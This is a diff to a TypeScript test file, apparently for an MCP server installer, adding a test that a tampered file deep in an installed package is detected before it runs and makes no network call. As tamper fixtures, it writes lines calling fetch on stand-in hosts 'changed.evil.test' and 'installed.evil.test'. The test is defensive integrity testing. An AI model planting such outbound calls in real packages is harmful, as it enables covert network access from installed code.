@@ -43,6 +43,11 @@ beforeAll(async () => {
       server('reach-server', { looks: '1' }),
       server('calling-server', { calls: '1' }),
       server('tavilly-mcp'),
+      {
+        ...server('deep-server', { deep: '1' }),
+        files: { 'cli.js': 'process.stdout.write(require("deep"))' },
+      },
+      { manifest: { name: 'deep', version: '1.0.0' }, files: { 'index.js': 'module.exports = "genuine"' } },
       scripted('looks', 'node look.js', { 'look.js': LOOKS.replace('fs.', "const fs = require('fs')\nfs.") }),
       scripted('calls', 'node call.js', {
         'call.js': 'fetch("http://installed.evil.test/").catch(() => 0)',
@@ -66,7 +71,7 @@ beforeEach(() => {
   )
 })
 
-const run = (...args: string[]): Promise<RunResult> => runOpen(mcp, args).ended
+const run = (...args: string[]): Promise<RunResult> => runOpen(mcp, args, 55_000).ended
 const trees = () => readdirSync(join(mcp.store, 'packages')).filter((name) => /^[0-9a-f]{64}$/.test(name))
 const inTree = (...path: string[]) => join(mcp.store, 'packages', trees()[0] ?? '', 'node_modules', ...path)
 
@@ -116,6 +121,17 @@ it('a file of the store that was changed never runs: the package is installed ag
   expect(sessions.map(({ phase, end }) => `${phase} ${end}`)).toEqual([
     ...['install exited', 'run exited', 'run failed', 'install exited', 'run exited'],
   ])
+})
+
+it('a changed file deep in the tree is noticed while the server starts: nothing of it gets out', async () => {
+  await run('-y', 'deep-server')
+  const file = inTree('deep/index.js')
+  chmodSync(file, 0o755)
+  writeFileSync(file, 'fetch("http://changed.evil.test/").catch(() => 0); module.exports = "changed"')
+  chmodSync(file, 0o444)
+  const result = await expectSilence(internet, () => run('-y', 'deep-server'))
+  expect(result.stderr.toString()).toContain('node_modules/deep/index.js: not what was installed')
+  expect(result.stdout.toString()).toBe('genuine')
 })
 
 it('one that cannot be had again does not run', async () => {
